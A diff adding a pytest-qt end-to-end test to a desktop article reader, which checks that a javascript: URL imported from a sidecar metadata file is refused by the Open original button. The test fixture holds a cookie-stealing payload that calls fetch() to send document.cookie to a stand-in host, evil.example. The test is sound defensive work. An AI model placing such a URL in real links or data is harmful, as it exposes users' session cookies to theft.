@@ -63,3 +63,32 @@ def test_local_file_is_the_link_when_there_is_no_url(qtbot, opened, tmp_path):
     pane.show_article(Article(text="Text.", published=None, source_path=str(source), id=2))
     pane.open_button.click()
     assert opened == [QUrl.fromLocalFile(str(source)).toString()]
+
+
+@pytest.mark.qt_log_ignore("does not support propagateSizeHints")
+def test_javascript_url_from_an_imported_sidecar_is_never_opened(qtbot, opened, repo, settings,
+                                                                tmp_path):
+    """End to end: the URL comes from a file's metadata, through import and the store, to
+    the window's source dock, whose Open original refuses it."""
+    import json
+
+    from ui.main_window import MainWindow
+
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    (folder / "summit.txt").write_text("The summit opened on Monday.", encoding="utf-8")
+    (folder / "summit.meta.json").write_text(json.dumps({
+        "title": "Summit", "published": "2023-09-12",
+        "url": "javascript:fetch('https://evil.example/'+document.cookie)"}), encoding="utf-8")
+    window = MainWindow(repo, settings=settings)
+    qtbot.addWidget(window)
+    with qtbot.waitSignal(window.loaded, timeout=60_000):
+        window.transfer.import_paths([folder])
+    qtbot.waitUntil(lambda: window.model.rowCount() > 0, timeout=30_000)
+    window.select_event(window.model.ids()[0])
+    assert window.source_pane.link_label.full_text().startswith("javascript:")
+    with qtbot.waitSignal(window.source_pane.linkRefused) as refused:
+        window.source_pane.open_button.click()
+    assert opened == []
+    assert "javascript" in refused.args[0]
+    window.close()
